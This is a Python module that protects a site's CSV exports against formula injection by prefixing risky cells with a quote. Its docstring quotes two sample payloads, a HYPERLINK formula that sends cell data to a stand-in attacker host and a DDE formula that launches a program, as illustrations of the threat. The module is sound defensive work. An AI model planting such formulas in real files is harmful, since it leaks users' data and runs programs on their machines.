"""The one way the site writes CSV: cells that a spreadsheet would run as formulas are
written as text (CSV injection, also called formula injection).

A spreadsheet that opens a CSV file runs a cell as a formula when it starts with ``=``,
``+``, ``-`` or ``@``, and some do so after a tab or a carriage return too, or with the
full-width forms (＝ ＋ － ＠) that East Asian input methods type, which some spreadsheets
read as their ASCII twins. ``=HYPERLINK("https://evil.example/?"&A2, "Details")`` sends a
neighbouring cell away when clicked; ``=cmd|' /C calc'!A0`` asks to start a program. Any
text that people type can reach an export: an actor's name, a sector, a space, a display
name, an e-mail address (``=x@example.org`` is a valid one).

What ``safe_cell`` does, following OWASP's advice
(https://owasp.org/www-community/attacks/CSV_Injection):

- a text cell that starts with one of those characters, or with blanks and then one of
  them, gets a single quote in front: spreadsheets read it as text. The quote stays in the
  data; that is the price of a file that is safe to double-click;
- numbers passed as numbers (``int``, ``float``, ``Decimal``) are written as they are: a
  negative longitude stays the number ``-1.55``, which no spreadsheet runs. A number that
  is not finite (``nan``, ``-inf``) is text and treated as text;
- a number passed as text (``"-2"``, a phone number ``"+33 6 …"``) is text: the exports
  pass real numbers as numbers, so a text column is protected whatever it looks like;
- ``None`` is an empty cell; anything else is written as ``str(value)``, checked as text.

Quoting of separators, quotes and line breaks inside cells is the ``csv`` module's, so the
file parses as before. JSON exports need none of this: JSON is read by programs, which do
not evaluate formulas, and its values stay exactly as typed.
"""

import csv
import math
from decimal import Decimal

# The characters that start a formula, and their full-width forms (U+FF1D, U+FF0B,
# U+FF0D, U+FF20).
FORMULA_STARTS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")


def _is_number(value):
    if isinstance(value, bool):
        return False
    if isinstance(value, int):
        return True
    if isinstance(value, float):
        return math.isfinite(value)
    if isinstance(value, Decimal):
        return value.is_finite()
    return False


def safe_cell(value):
    """``value`` as a cell no spreadsheet runs: see the module's docstring."""
    if value is None:
        return ""
    if _is_number(value):
        return value
    text = str(value)
    if text[:1] in FORMULA_STARTS or text.lstrip()[:1] in FORMULA_STARTS:
        return "'" + text
    return text


class SafeWriter:
    """``csv.writer`` with every cell passed through ``safe_cell``."""

    def __init__(self, file, **options):
        self._writer = csv.writer(file, **options)

    @property
    def dialect(self):
        return self._writer.dialect

    def writerow(self, row):
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def writer(file, **options):
    """Use it where ``csv.writer(file, **options)`` would be used."""
    return SafeWriter(file, **options)
